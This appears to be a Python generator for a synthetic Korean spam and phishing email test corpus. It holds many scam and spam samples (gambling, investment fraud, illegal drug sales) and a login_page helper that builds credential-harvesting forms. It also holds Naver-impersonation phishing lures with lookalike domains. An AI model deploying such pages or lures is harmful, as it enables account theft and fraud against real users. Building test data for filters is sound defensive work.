텔레그램 : <b>@winner_toto_cs</b></p>
<p><a href="http://winner-toto-kr.shop/join?ref=ml1127" style="color:#ffd60a;">가입하기</a></p>
</div></body></html>
''')

M('spam', '슬롯 사이트 광고, 본문 거의 없이 인라인 배너 이미지와 링크만 있는 이미지 스팸',
  frm=('slot mania', 'promo@slot-mania-kr.click'), to=v(3), prov='vps', cs='UTF-8',
  subj='🎰 무료 스핀 100회 지급 중',
  html='''<html><body style="margin:0;text-align:center;">
<a href="https://slot-mania-kr.click/?code=SM100"><img src="cid:slot_banner" width="640" alt="" border="0"></a>
<p style="font-size:11px;color:#aaa;">이미지가 보이지 않으면 <a href="https://slot-mania-kr.click/?code=SM100">여기</a></p>
</body></html>
''',
  inline=[att('banner.png', png_banner('slot', 320, 160, bg=(90, 0, 120), fg=(255, 220, 0)), 'image/png',
              disp='inline', cid='slot_banner')])

M('spam', '바카라 사이트 광고, 자모·라틴 유사문자 섞은 표기(ㅂrㅋrㄹr), 가입코드, 카톡 채널 (UTF-8 base64)',
  frm=('에볼루션 공식', 'cs@evo-live-kr9.xyz'), to=v(4), prov='vps', cs='UTF-8', cte='base64',
  subj='ㅂrㅋrㄹr 신규 첫충 30% + 페이백 5%',
  html='''<html><body style="font-family:sans-serif;font-size:15px;">
<p><b>ㅂrㅋrㄹr · 룰렛 · 드래곤타이거</b> 라이브 정식 라이센스</p>
<p>신규 첫충 30% / 매일 페이백 5% / 출석 보너스</p>
<p>ㅋrㅈl노 어디가 안전한지 고민되시죠?<br>먹튀 0건 · 고액 출금 즉시 처리</p>
<p>가입코드 <b>EVO88</b> &nbsp;|&nbsp; 카톡채널 <b>에볼라이브24</b></p>
<p><a href="https://evo-live-kr9.xyz/r/88">▶ 바로가기</a></p>
</body></html>
''')

M('spam', '해킹된 Gmail 계정에서 발송된 짧은 카지노 홍보 (DKIM 통과하는 정상 사업자 경유, 평문)',
  frm=('Lee Hana', 'leehana.design22@gmail.com'), to=v(7), prov='gmail',
  subj='안녕하세요 오랜만이에요',
  text='''오랜만이에요~ 요즘 저 이거 하는데 괜찮아서 공유해요
가입만 해도 3만원 주고 출금도 빨라요 ㅎㅎ
https://tiny-go.click/k7Hw2

코드 넣으면 추가 보너스 있어요: HANA33
''')

M('spam', '홀덤·파워볼 사설 게임 사이트 광고, 한글 사이에 제로폭 공백 삽입 (UTF-8)',
  frm=('HOLDEM KING', 'noreply@holdem-king-777.top'), to=v(8), prov='vps', cs='UTF-8', cte='quoted-printable',
  subj=zw('홀덤') + ' 토너먼트 상금 1억 / ' + zw('파워볼') + ' 실시간',
  html='''<html><body style="font-family:sans-serif;">
<h3>''' + zw('온라인홀덤') + ''' 매일 토너먼트 GTD 1억</h3>
<p>''' + zw('파워볼') + ''' · ''' + zw('사다리') + ''' · 스피드키노 실시간 중계</p>
<p>신규 가입 시 토너먼트 티켓 5장 + 충전 보너스 15%</p>
<p>문의 텔레그램 <b>@holdemking_cs</b></p>
<p><a href="https://holdem-king-777.top/join">입장하기</a></p>
</body></html>
''')

M('spam', '성인 만남 주선 스팸 - 근처 여성 프로필 사칭, 앱 설치 유도 (EUC-KR, 짧은 HTML)',
  frm=('오늘밤', 'alarm@tonight-meet7.xyz'), to=v(9), prov='vps', cs='euc-kr',
  subj='[1:1 메시지] 근처 3km 지수님이 메시지를 보냈습니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="width:380px;border:1px solid #ddd;padding:16px;font-family:돋움;font-size:14px;">
<p><b>지수 (27세, 3.2km)</b> 님의 메시지</p>
<p style="background:#fbe9ee;padding:10px;">오빠 퇴근했어요? 오늘 시간 되면 한잔해요 ㅎㅎ 사진은 앱에서 보여줄게요</p>
<p><a href="http://tonight-meet7.xyz/app/dl">메시지 확인하기 (무료 가입)</a></p>
<p style="font-size:11px;color:#999;">성인 인증 후 이용 가능합니다.</p>
</div></body></html>
''')

M('spam', '성인 화상채팅 사이트 광고, 19금 표기, 가입 포인트 (UTF-8, 단축 URL)',
  frm=('19 LIVE', 'news@live19-cam.top'), to=v(10), prov='vps', cs='UTF-8',
  subj='🔞 19금 1:1 라이브 채팅 - 가입 즉시 500코인',
  html='''<html><body style="background:#1a0010;color:#fff;font-family:sans-serif;text-align:center;">
<p style="font-size:22px;">🔞 성인 전용 1:1 라이브</p>
<p>지금 접속 중인 BJ 312명<br>신규 가입 즉시 500코인 무료</p>
<p><a href="https://lnk2.xyz/19live" style="color:#ff4d8d;">▶ 입장하기</a></p>
<p style="font-size:11px;color:#777;">본 메일은 성인에게만 발송됩니다.</p>
</body></html>
''')

M('spam', '(광고) 표기·수신거부 문구를 갖춘 성인용품 쇼핑몰 광고 (사전 동의 없이 발송된 스팸, Stibee형 대량 발송)',
  frm=('러브토이몰', 'shop@lovetoy-mall.shop'), to=v(11), prov='sendgrid',
  list=dict(url='https://lovetoy-mall.shop/unsubscribe?e=x', post=True),
  subj='(광고) 블랙프라이데이 성인용품 최대 70% + 비밀포장 무료배송',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<p><b>러브토이몰 블랙프라이데이</b></p>
<p>커플 아이템 · 젤 · 란제리 최대 70% 할인<br>내용물 표시 없는 <b>비밀 포장</b> · 무료배송</p>
<p><a href="https://lovetoy-mall.shop/bf">할인상품 보기</a></p>
<p style="font-size:11px;color:#999;">(광고) 러브토이몰 | 수신을 원치 않으시면 <a href="https://lovetoy-mall.shop/unsubscribe?e=x">수신거부</a></p>
</body></html>
''')

M('spam', '주식 무료 리딩방 초대 - 카카오 오픈채팅, 수익 인증 캡처 언급, 애널리스트 사칭 (EUC-KR 평문)',
  frm=('한국투자연구소 김부장', 'research@kinvest-lab.net'), to=v(0), prov='massmail', cs='euc-kr', fmt='plain', cte='base64',
  subj='[무료] 이번 주 급등 예상 종목 3개 공개합니다',
  text='''안녕하세요 한국투자연구소 김태준 부장입니다.

지난주 추천드린 종목 3개 평균 수익률 +38.7% 달성했습니다.
(수익 인증 캡처는 오픈채팅방에 올려두었습니다)

이번 주는 AI 반도체 / 로봇 관련 급등 예상주 3종목을
무료 리딩방에서 선착순 50분께만 공개합니다.

▶ 카카오톡 오픈채팅 "김부장 무료 종목방"
   참여코드 : 7788
   https://open-kakao.link-chat.top/o/kimbujang

※ 리딩방 운영 10년, 누적 회원 2만명
※ 손실 시 100% 보상 프로그램 운영 중
''')

M('spam', '코인 선물 리딩 텔레그램 방 홍보, 레버리지 수익 과장, 영어·한국어 혼용 (UTF-8)',
  frm=('Crypto Signal KR', 'signal@cryptowhale-kr.io'), to=v(1), prov='vps', cs='UTF-8',
  subj='BTC 선물 시그널 적중률 91% - 오늘 밤 무료 공개',
  html='''<html><body style="font-family:sans-serif;background:#0b0e11;color:#eaecef;padding:20px;">
<h2 style="color:#f0b90b;">🐳 Whale Signal KR</h2>
<p>지난 30일 시그널 <b>91% 적중</b> · 누적 수익 <b>+1,240%</b> (x20 레버리지 기준)</p>
<p>오늘 밤 10시 BTC/ETH 선물 진입 포인트 무료 공개!<br>VIP방 입장 시 알트코인 펌핑 정보까지 🚀</p>
<p>Telegram: <b>@whale_signal_kr</b></p>
<p><a href="https://t-join.whale-kr.top/free" style="color:#f0b90b;">무료방 입장 →</a></p>
<p style="font-size:11px;color:#848e9c;">Not financial advice. DYOR.</p>
</body></html>
''')

M('spam', 'VIP 종목 추천 유료 서비스 - 금융당국 등록 사칭, 적중률·환불 보장 (ks_c_5601-1987)',
  frm=('스탁마스터', 'vip@stockmaster-pro.kr'), to=v(2), prov='massmail', cs='ks_c_5601-1987',
  subj='[VIP 회원 모집] 3개월 수익 보장, 미달성 시 전액 환불',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="560" style="font-family:돋움;font-size:13px;border:2px solid #c00000;">
<tr><td style="background:#c00000;color:#fff;font-size:16px;padding:10px;"><b>스탁마스터 VIP 회원 모집</b></td></tr>
<tr><td style="padding:14px;line-height:1.8;">
- 금융위원회 정식 등록 유사투자자문업체<br>
- 2026년 누적 추천 종목 적중률 <b>87%</b><br>
- <b>3개월 목표수익 50% 미달성 시 이용료 전액 환불</b><br>
- 매일 장전 09:00 카톡으로 종목·매수가·목표가 전송<br><br>
이번 달 가입비 : <s>1,980,000원</s> → <b>990,000원</b> (선착순 20명)<br><br>
상담 : 1666-38** / 카톡 stockmaster01
</td></tr></table></body></html>
''')

M('spam', '상장 예정 신규 코인 프리세일 투자 권유, 에어드랍·거래소 상장 확정 주장 (UTF-8 base64)',
  frm=('NOVA Chain Korea', 'kr@novachain-presale.io'), to=v(3), prov='ses', cs='UTF-8',
  subj='[프리세일 마감 D-3] NOVA 코인 거래소 상장 확정, 현재가 대비 10배 예상',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:560px;margin:0 auto;">
<h2>NOVA Chain 프리세일 3차 라운드</h2>
<p>✅ 국내외 대형 거래소 상장 확정 (12월 중)<br>✅ 프리세일 가격 1 NOVA = 12원 → 상장가 120원 예상<br>✅ 100만원 이상 참여 시 20% 추가 에어드랍</p>
<p>참여 방법: 아래 지갑 주소로 USDT 전송 후 카카오톡으로 인증<br>
카카오톡 ID: <b>nova_kr_manager</b></p>
<p><a href="https://novachain-presale.io/kr">백서 및 참여 안내</a></p>
</div></body></html>
''')

M('spam', '비상장 주식 "IPO 임박" 매수 권유 - 투자 설명회 초대, 원금 보장 암시 (EUC-KR, 평문+HTML)',
  frm=('한빛인베스트 투자지원팀', 'ir@hanvit-invest.co'), to=v(4), prov='vps', cs='euc-kr',
  subj='상장 앞둔 바이오 비상장주식 기관 배정 물량 일부 개인 배정 안내',
  text='''안녕하십니까 한빛인베스트 투자지원팀입니다.

내년 상반기 코스닥 상장 예정인 바이오 기업 "○○바이오"의
기관 배정 물량 중 일부를 개인 투자자께 특별 배정합니다.

  - 주당 배정가 : 18,000원 (장외 시세 대비 40% 할인)
  - 상장 예상가 : 45,000원 ~ 60,000원
  - 최소 청약 : 500주

상장 불발 시 회사가 매입가에 되사주는 바이백 약정서를 드립니다.
선착순 마감이니 서둘러 연락 주십시오.

투자지원팀 최실장 010-7245-3318
''')

M('spam', '원금 보장·월 8% 확정 수익 "부동산 펀드" 투자 권유 (유사수신 의심, ks_c 평문)',
  frm=('대한자산관리', 'manager@daehan-asset-plus.com'), to=v(5), prov='massmail', cs='ks_c_5601-1987', fmt='plain',
  subj='[VIP 고객 한정] 원금 보장 + 매월 8% 확정 배당 상품 안내',
  text='''고객님 안녕하십니까. 대한자산관리 자산운용팀입니다.

저금리 시대, 안정적인 월 수익을 원하시는 분들께 추천드립니다.

▣ 강남 상업용 부동산 개발 펀드
  - 원금 100% 보장 (보증보험 가입)
  - 매월 8% 확정 배당 (연 96%)
  - 최소 1,000만원 / 6개월 만기 후 원금 일시 반환

지인 소개 시 소개 수수료 3% 추가 지급합니다.
한정 모집으로 조기 마감될 수 있습니다.

상담 전화 02-6952-88**
''')

M('spam', '발기부전 치료제 해외 직배송 광고, 비ㅇr그라/시@리스 난독화, 처방전 불필요 (UTF-8)',
  frm=('헬스케어직구', 'order@men-health-direct.shop'), to=v(6), prov='vps', cs='UTF-8', cte='base64',
  subj='비ㅇr그라 · 시@리스 정품 처방전 없이 당일 발송',
  html='''<html><body style="font-family:sans-serif;font-size:14px;">
<p><b>남성 건강 정품 직구</b></p>
<p>비ㅇr그라 100mg 30정 59,000원<br>시@리스 20mg 30정 69,000원<br>레비트라 · 센포스 · 카마그라 젤리</p>
<p>✔ 처방전 없이 구매<br>✔ 완벽 비밀 포장 (내용물 "건강식품" 표기)<br>✔ 2+1 이벤트 중</p>
<p>주문: <a href="https://men-health-direct.shop/kr">men-health-direct.shop</a> / 카톡 mhd365</p>
</body></html>
''')

M('spam', '해외 다이어트 약(식욕억제제) 불법 직구 광고, 전후 사진 언급 (EUC-KR)',
  frm=('슬림라인', 'cs@slimline-diet.xyz'), to=v(7), prov='vps', cs='euc-kr',
  subj='한 달 -8kg 병원 다이어트약 그대로, 처방 없이 구매하세요',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;">
<p style="font-size:17px;"><b>병원에서 처방받던 그 약, 이제 집에서 편하게</b></p>
<p>식욕억제 + 체지방 분해 + 붓기 제거 3단계 처방 구성<br>
한 달 평균 -6~8kg (개인차 있음)<br>
<b>처방전 없이 해외 직배송</b> · 통관 100% 보장</p>
<p>1개월분 89,000원 / 3개월분 219,000원</p>
<p><a href="http://slimline-diet.xyz/order">주문하기</a> &nbsp; 카톡 상담 : slim2026</p>
</body></html>
''')

M('spam', '탈모약(피나스테리드) 해외 제네릭 대량 구매 광고, 제품명 분리 표기 (UTF-8, 8bit)',
  frm=('헤어리치', 'hello@hairrich-shop.top'), to=v(8), prov='vps', cs='UTF-8', cte='8bit', fmt='plain',
  subj='프로페 시아 제네릭 1년치 19만원 (처방X)',
  text='''탈모 고민 이제 그만

프로페 시아 / 아보 다트 인도산 제네릭
1년치 (360정) 190,000원
처방전 필요 없음, 해외 배송 7~10일

주문 링크 → hairrich-shop.top/p/fin1
문의 카톡 hairrich
''')

M('spam', '재택 부업 일당 15만원 광고 - 스마트폰으로 간단 작업, 카톡 상담 유도 (EUC-KR QP)',
  frm=('스마트잡', 'recruit@smart-job-home.xyz'), to=v(9), prov='vps', cs='euc-kr', cte='quoted-printable',
  subj='[재택근무] 하루 1~2시간 스마트폰으로 일당 15만원',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<p style="font-family:돋움;font-size:14px;line-height:1.8;">
<b>주부 · 직장인 · 대학생 부업 모집</b><br>
스마트폰만 있으면 누구나 가능!<br>
간단한 클릭 작업 하루 1~2시간 = 일당 <b>150,000원</b><br>
당일 정산 / 경력 무관 / 나이 무관<br><br>
▶ 카카오톡 <b>smartjob88</b> 친구 추가 후 "부업" 이라고 보내주세요<br>
▶ 선착순 30명 모집 (조기 마감)
</p></body></html>
''')

M('spam', '쇼핑몰 상품 리뷰 알바 모집 - 구매 후 환급, 선입금 유도형 부업 사기성 스팸 (UTF-8)',
  frm=('리뷰파트너스', 'hr@review-partners.shop'), to=v(10), prov='ses', cs='UTF-8',
  subj='쿠팡·스마트스토어 리뷰 작성 알바 (건당 5천원 + 구매금액 100% 환급)',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<p>안녕하세요, 리뷰파트너스 채용 담당입니다.</p>
<p>온라인 쇼핑몰 상품 리뷰 작성 아르바이트를 모집합니다.</p>
<ul><li>업무: 지정 상품 구매 → 리뷰 작성 → 구매금액 전액 + 수고비 환급</li>
<li>수고비: 건당 5,000원 (하루 10건 이상 가능)</li><li>근무: 재택, 시간 자유</li></ul>
<p>텔레그램 <b>@review_partners_hr</b> 으로 이름/나이/지역을 보내주시면 담당자가 안내해 드립니다.</p>
</body></html>
''')

M('spam', '유튜브 구독·좋아요 누르기 알바 - 미션 수당, 이후 "충전 미션" 유도형 (UTF-8 평문, 짧음)',
  frm=('유튜브 마케팅팀', 'mkt@yt-boost-team.top'), to=v(11), prov='vps', fmt='plain', cte='base64',
  subj='유튜브 좋아요 누르고 하루 5만원 받으세요',
  text='''안녕하세요 :)
유튜브 채널 홍보 마케팅 회사입니다.

지정된 영상에 구독, 좋아요 누르고 캡처만 보내주시면
건당 3,000원, 하루 최대 5만원 즉시 지급해 드려요.

관심 있으시면 텔레그램으로 "YT" 보내주세요
@yt_mission_kr
''')

M('spam', '문서 타이핑 재택 알바 - 교육비·프로그램 비용 선결제 요구 (EUC-KR, Outlook Express 흉내)',
  frm=('한국문서센터', 'job@kr-document-center.net'), to=v(0), prov='massmail', cs='euc-kr', fmt='plain',
  subj='[채용] 재택 문서 타이핑 요원 모집 (월 200~300)',
  text='''재택 타이핑 요원 모집 안내

- 업무 : 스캔 문서를 한글/엑셀로 입력
- 급여 : 건당 1만원~3만원 (월 200~300만원 가능)
- 자격 : 컴퓨터 기본 사용 가능자, 나이 학력 무관

※ 업무 프로그램 및 교육 자료 발송비 39,000원 별도 (첫 급여에서 환급)

지원 : kr-document-center.net/apply
문의 : 070-4823-1907
''')

M('spam', '(광고) 네이버 플레이스·블로그 상위노출 마케팅 대행 영업 메일, 수신거부 포함 (ks_c Outlook)',
  frm=('마케팅연구소 윤팀장', 'yoon@top-ranking-lab.co.kr'), to=[('', 'admin@hanul-design.test')], prov='outlook',
  out_host='smtp.top-ranking-lab.co.kr', dkim=False,
  subj='(광고) 사장님, 네이버 플레이스 1페이지 노출 보장해 드립니다',
  text='''안녕하세요 사장님, 마케팅연구소 윤팀장입니다.

네이버에서 "마포 디자인" 검색 시 업체가 몇 번째에 노출되는지 확인해 보셨나요?
저희는 플레이스·블로그 상위노출 전문 업체로, 1페이지 노출을 보장합니다.

- 플레이스 상위노출: 월 33만원 (미노출 시 전액 환불)
- 블로그 체험단 20건: 50만원
- 영수증 리뷰 100건: 30만원

무료 진단 리포트 받아보시려면 회신 또는 010-3318-4402로 연락 주세요.

마케팅연구소 | 서울시 금천구 가산디지털1로 (생략)
수신을 원하지 않으시면 "수신거부"라고 회신 주십시오.
''')

M('spam', '인스타그램 팔로워·좋아요 판매 및 블로그 체험단 모집 광고, 이모지 다수 (UTF-8)',
  frm=('인스타부스터', 'sales@insta-booster-kr.com'), to=v(1), prov='sendgrid',
  subj='팔로워 1만명 39,000원 🔥 한국인 실계정 100%',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:15px;">
<p>🔥 <b>인스타 팔로워 / 좋아요 / 릴스 조회수</b> 🔥</p>
<p>👥 한국인 팔로워 1,000명 9,900원<br>👥 10,000명 39,000원<br>❤️ 좋아요 1,000개 4,900원<br>▶️ 릴스 조회수 10만 19,000원</p>
<p>✔ 실계정 ✔ 이탈 시 30일 무료 리필 ✔ 비밀번호 필요 없음</p>
<p><a href="https://insta-booster-kr.com/order">주문하러 가기</a></p>
</body></html>
''')

M('spam', '개인정보 DB(보험·대출 가망고객) 판매와 대량문자 발송 대행 광고 (EUC-KR 평문)',
  frm=('DB마켓', 'dbmarket@db-market-kr.xyz'), to=v(2), prov='vps', cs='euc-kr', fmt='plain', cte='base64',
  subj='실시간 가망고객 DB 건당 500원 / 대량문자 8원',
  text='''영업하시는 대표님들께

보험 / 대출 / 분양 / 렌탈 가망고객 실시간 DB 판매합니다
- 실시간 상담신청 DB 건당 500원~
- 지역별 / 연령별 / 업종별 맞춤 추출
- 대량문자 발송 건당 8원 (080 수신거부 자동 처리)

샘플 100건 무료 제공
텔레그램 @dbmarket_kr
''')

M('spam', '홈페이지 제작 "100만원 → 39만원" 영업 스팸, 포트폴리오 링크 (UTF-8 QP)',
  frm=('웹스튜디오 픽셀', 'hello@pixel-webstudio.site'), to=[('', 'cs@jinju-foods.example')], prov='vps', cs='UTF-8',
  cte='quoted-printable',
  subj='진주식품 대표님, 홈페이지 리뉴얼 39만원에 해드립니다',
  html='''<html><body style="font-family:sans-serif;font-size:14px;line-height:1.7;">
<p>대표님 안녕하세요, 웹스튜디오 픽셀입니다.</p>
<p>귀사 홈페이지를 살펴보니 모바일 화면이 깨지고 보안 인증서(SSL)가 없어 고객 이탈이 우려됩니다.</p>
<p>이번 달 한정으로 <b>반응형 홈페이지 제작 100만원 → 39만원</b><br>도메인·호스팅 1년 무료, 네이버 검색 등록 대행 포함</p>
<p>포트폴리오: <a href="https://pixel-webstudio.site/portfolio">pixel-webstudio.site/portfolio</a></p>
<p>관심 없으시면 답장으로 알려주세요. 다시 연락드리지 않겠습니다.</p>
</body></html>
''')

M('spam', '해외 SEO 백링크 판매 스팸 - 어색한 번역투 한국어와 영어 혼용 (UTF-8 평문)',
  frm=('Daniel SEO Expert', 'daniel.seoexpert@rank-boost-pro.xyz'), to=[('', 'recruit@hanbit-tech.example')],
  rcpt='recruit@hanbit-tech.example', prov='vps', fmt='plain', cte='base64',
  subj='Re: 귀하의 웹사이트 구글 첫 페이지 랭킹',
  text='''안녕하세요 웹사이트 소유자님,

저는 귀하의 웹사이트를 검토하였고 구글에서 좋은 순위를 얻지 못하고 있는 것을 발견하였습니다.
우리는 고품질 백링크 (DA 50+) 를 제공하며 3개월 안에 첫 페이지를 보장합니다.

Our services:
- 100 High DA backlinks : $99
- Guest post on 30 sites : $149
- Full SEO audit : FREE

관심이 있다면 이 이메일에 회신하여 주십시오.

Best Regards,
Daniel
SEO Expert
''')

M('spam', '흥신소·심부름센터 광고 - 배우자 외도 조사, 사람 찾기 (ks_c, Outlook Express 흉내)',
  frm=('정의탐정사무소', 'detective@justice-find.com'), to=v(3), prov='massmail', cs='ks_c_5601-1987',
  subj='배우자 외도 / 사람 찾기 / 기업 조사 - 24시간 비밀상담',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<p style="font-family:굴림;font-size:13px;line-height:1.8;">
<b>경력 20년 전직 수사관 출신 팀</b><br>
- 배우자 외도 증거 수집<br>- 연락 끊긴 가족·채무자 소재 파악<br>- 기업 내부 유출자 조사<br><br>
철저한 비밀 보장, 착수금 최소화, 결과 없으면 비용 없음<br>
24시간 상담 010-9011-4276 (문자 환영)
</p></body></html>
''')

M('spam', '명품 레플리카(가품) 쇼핑몰 광고, "1:1 미러급" 표현, 카톡 주문 (EUC-KR)',
  frm=('럭셔리하우스', 'vip@lux-house-rep.top'), to=v(4), prov='vps', cs='euc-kr',
  subj='[신상입고] 1:1 미러급 명품 가방 · 시계 · 의류 (정품 대비 10%)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;">
<p><b>럭셔리하우스 신상 입고 안내</b></p>
<p>샤* · 루이* · 에르* · 롤*스<br>1:1 미러급 최상급 제작 · 각인 · 정품 박스 구성</p>
<p>가방 39만원~ / 시계 45만원~</p>
<p>카톡 주문 : <b>luxhouse22</b> &nbsp; 사이트 : lux-house-rep.top</p>
</body></html>
''')

M('spam', '중고차 전액 할부·저신용 승인 광고, 허위매물 의심 (UTF-8 HTML, (광고) 없음)',
  frm=('카프리 중고차', 'sales@carfree-used.xyz'), to=v(5), prov='vps', cs='UTF-8',
  subj='신용불량 OK / 무입금 전액할부 중고차 당일 출고',
  html='''<html><body style="font-family:sans-serif;font-size:14px;">
<p><b>저신용·무직자 전액할부 중고차</b></p>
<p>그랜저 IG 2019 월 29만원 · 쏘렌토 2020 월 33만원 · 카니발 2019 월 35만원</p>
<p>선수금 0원 / 보증인 필요 없음 / 전국 탁송 무료</p>
<p>전화 010-2260-7718 · 카톡 carfree7</p>
</body></html>
''')

M('spam', '학점은행제 학위 취득 "100% 온라인 6개월 졸업" 광고, 수신거부 없음 (EUC-KR QP)',
  frm=('한국평생교육원', 'info@kr-lifelong-edu.kr'), to=v(6), prov='vps', cs='euc-kr', cte='quoted-printable',
  subj='고졸도 6개월이면 학사 학위 취득! 국가 인정 학위',
  text='''직장 다니면서 학위 취득하세요

- 100% 온라인 수업, 시험도 온라인
- 최단 6개월 전문학사 / 1년 학사
- 사회복지사 2급, 보육교사 자격증 동시 취득
- 국민내일배움카드 사용 가능

지금 상담 신청 시 수강료 50% 장학 혜택
상담 신청 : kr-lifelong-edu.kr/counsel
''')

M('spam', '자동차보험 비교 견적 "최대 40% 절약" 광고 - (광고) 표기 없음, 보험사 로고 사칭 (UTF-8)',
  frm=('다이렉트보험비교', 'noreply@insu-compare24.com'), to=v(7), prov='ses', cs='UTF-8',
  subj='자동차보험 만기 다가오시죠? 11개 보험사 한 번에 비교',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<p>고객님, 자동차보험 갱신 전에 꼭 비교해 보세요.</p>
<p>11개 손해보험사 다이렉트 보험료를 1분 만에 비교<br>평균 <b>32만원</b>, 최대 <b>40%</b> 절약</p>
<p><a href="https://insu-compare24.com/car?utm=mail">내 보험료 비교하기</a></p>
<p style="font-size:11px;color:#999;">보험료 비교 후 상담 신청 시 스타벅스 쿠폰 증정</p>
</body></html>
''')

M('spam', '텍스트 없이 이미지 한 장과 링크만 있는 카지노 스팸 (이미지 첨부, 제목도 무의미 문자열)',
  frm=('.', 'x7k2@qx-mail-91.top'), to=v(8), prov='vps', cs='UTF-8',
  subj='Re: 확인 부탁드려요 #8842',
  html='''<html><body><a href="https://qx-mail-91.top/r?i=8842"><img src="cid:img8842"></a></body></html>
''',
  inline=[att('img8842.png', png_banner('casino-img', 300, 200, bg=(120, 0, 0), fg=(255, 215, 0)), 'image/png',
              disp='inline', cid='img8842')])

M('spam', '코인 채굴기 렌탈 투자 - 매일 채굴 수익 지급 주장, 다단계 추천 보너스 (EUC-KR)',
  frm=('마이닝팜코리아', 'invest@mining-farm-kr.net'), to=v(9), prov='vps', cs='euc-kr', cte='base64',
  subj='채굴기 1대 분양 시 매일 3만원 채굴 수익 자동 지급',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;">
<p><b>AI 채굴기 분양 1차 모집</b></p>
<p>1대 분양가 600만원 → 매일 약 3만원 채굴 수익 자동 지급 (월 90만원)<br>
전기료·관리비 회사 부담 / 7개월이면 원금 회수</p>
<p>지인 추천 시 분양가의 10% 추천 수당</p>
<p>상담 : 카톡 miningfarm_kr / 1668-40**</p>
</body></html>
''')

M('spam', '로또 1등 번호 예측 유료 서비스 광고, "AI 분석" 주장 (ks_c, 전각 숫자)',
  frm=('로또리치', 'win@lotto-rich-ai.com'), to=v(10), prov='massmail', cs='ks_c_5601-1987', fmt='plain',
  subj='[로또리치] 이번 주 1등 예상번호 무료 발송 (' + fw('1196') + '회)',
  text='''로또리치 AI 분석 시스템이 이번 주 1등 예상번호를 추출했습니다.

지난 회차 3등 당첨 회원 27명 / 누적 1등 배출 41회

이번 주 무료 예상번호 (5게임 중 1게임 공개)
  ０３  １１  １９  ２７  ３４  ４２

나머지 4게임 + 고정수 분석은 VIP 회원에게만 제공됩니다.
VIP 1개월 99,000원 → 이번 주 49,000원

가입 : lotto-rich-ai.com/vip
''')

M('spam', '개인회생·파산 "빚 90% 탕감" 법률 상담 광고, 무료 자격 진단 링크 (UTF-8, (광고) 없음)',
  frm=('희망회생센터', 'consult@hope-rehab-center.com'), to=v(11), prov='sendgrid',
  subj='카드빚, 대출빚 최대 90% 탕감 가능한지 1분 무료 진단',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;line-height:1.7;">
<p><b>빚 때문에 잠 못 드시나요?</b></p>
<p>개인회생 제도를 이용하면 채무 최대 90%까지 탕감될 수 있습니다.<br>
추심 전화 즉시 중단 · 월 변제금 최소화 · 착수금 분납 가능</p>
<p><a href="https://hope-rehab-center.com/check">1분 무료 자격 진단 받기</a></p>
<p>상담 전화 1588-62** (24시간)</p>
</body></html>
''')


# ===========================================================================
# PHISHING - every sender domain, link, phone number and account is invented
# ===========================================================================
def login_page(title, brand_color, action, fields, note):
    inputs = '\n'.join('<input name="%s" type="%s" placeholder="%s" style="width:100%%;padding:10px;margin:6px 0;border:1px solid #ccc;">'
                       % (n, t, p) for n, t, p in fields)
    return ('<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><title>%s</title>'
            '<meta name="viewport" content="width=device-width,initial-scale=1"></head>'
            '<body style="font-family:sans-serif;background:#f4f4f4;">'
            '<div style="max-width:380px;margin:60px auto;background:#fff;padding:30px;border-top:5px solid %s;">'
            '<h3>%s</h3><form method="POST" action="%s">\n%s\n'
            '<button type="submit" style="width:100%%;padding:12px;background:%s;color:#fff;border:0;">확인</button></form>'
            '<p style="font-size:12px;color:#888;">%s</p></div>'
            '<script>document.forms[0].onsubmit=function(){setTimeout(function(){document.body.innerHTML="<p>일시적인 오류입니다. 잠시 후 다시 시도해 주세요.</p>"},800)}</script>'
            '</body></html>' % (title, brand_color, title, action, inputs, brand_color, note))


M('phish', '네이버 사칭 "해외 로그인 차단, 보호조치 해제" 계정 탈취 메일, 유사 도메인 링크 (UTF-8 HTML)',
  frm=('네이버', 'help@naver-nid-protect.top'), to=v(6), prov='kit', cs='UTF-8',
  subj='[네이버] 회원님의 아이디가 보호조치 되었습니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:'Nanum Gothic',sans-serif;font-size:14px;">
<div style="max-width:600px;margin:0 auto;border:1px solid #e5e5e5;padding:30px;">
<p style="color:#03c75a;font-size:22px;font-weight:bold;">NAVER</p>
<p>회원님의 아이디로 <b>해외(러시아)</b>에서 로그인 시도가 감지되어 개인정보 보호를 위해 아이디가 <b>보호조치</b> 되었습니다.</p>
<table style="font-size:13px;"><tr><td style="color:#888;padding-right:12px;">일시</td><td>2026.11.02 03:17</td></tr>
<tr><td style="color:#888;padding-right:12px;">IP</td><td>203.0.113.214 (RU)</td></tr></table>
<p>본인 확인 후 보호조치를 해제하지 않으면 <span style="color:#e00;">24시간 후 메일 수신 및 네이버페이 이용이 제한</span>됩니다.</p>
<p><a href="https://nid.naver-nid-protect.top/user2/help/idRelease?token=8a1f0e" style="display:inline-block;background:#03c75a;color:#fff;padding:12px 24px;text-decoration:none;">보호조치 해제하기</a></p>
<p style="font-size:12px;color:#999;">본 메일은 발신전용입니다. Copyright &copy; NAVER Corp.</p>
</div></body></html>
''')

M('phish', '네이버 메일 저장공간 초과 사칭, 용량 추가를 위한 재로그인 요구 (EUC-KR, 짧음)',
  frm=('네이버 메일', 'mailadmin@navermail-storage.xyz'), to=v(10), prov='kit', cs='euc-kr',
  subj='[알림] 메일함 용량이 98% 찼습니다. 수신 메일이 반송될 수 있습니다',
